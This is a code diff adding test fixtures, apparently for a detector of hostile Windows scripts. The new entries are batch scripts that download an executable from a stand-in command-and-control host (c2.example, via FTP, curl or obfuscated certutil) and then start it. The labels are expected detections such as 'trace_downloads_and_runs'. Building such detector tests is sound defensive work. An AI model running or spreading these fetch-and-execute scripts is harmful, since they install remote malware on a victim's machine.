@@ -22,6 +22,23 @@ const careted = (line: string): string =>
 
 export const harmfulBatch: readonly HarmfulScript[] = [
   {
+    name: 'a script for FTP, and what it fetched started if it came',
+    file: 'ftp.bat',
+    source:
+      '@echo off\r\nset f=%TEMP%\\l%RANDOM%.txt\r\n>%f% echo open c2.example 2121\r\n>>%f% echo user anonymous a@\r\n>>%f% echo get upd.scr\r\n>>%f% echo bye\r\nftp -n -v -s:%f%\r\ndel %f%\r\nif exist upd.scr start "" upd.scr\r\n',
+    ids: ['trace_downloads_and_runs'],
+    urls: ['ftp://c2.example:2121/upd.scr'],
+    files: ['upd.scr'],
+  },
+  {
+    name: 'what curl fetched is started where it came',
+    file: 'exist.cmd',
+    source: `curl -s -o %TEMP%\\w.exe ${C2}w.exe\r\nif exist %TEMP%\\w.exe start /b %TEMP%\\w.exe\r\n`,
+    ids: ['trace_downloads_and_runs'],
+    urls: [`${C2}w.exe`],
+    files: ['w.exe'],
+  },
+  {
     name: 'certutil and start, letters cut out of a variable',
     file: 'cut.bat',
     source: `${cutLetters(`certutil -urlcache -split -f ${C2}b.exe C:\\Users\\Public\\b.exe`)}start /b C:\\Users\\Public\\b.exe`,
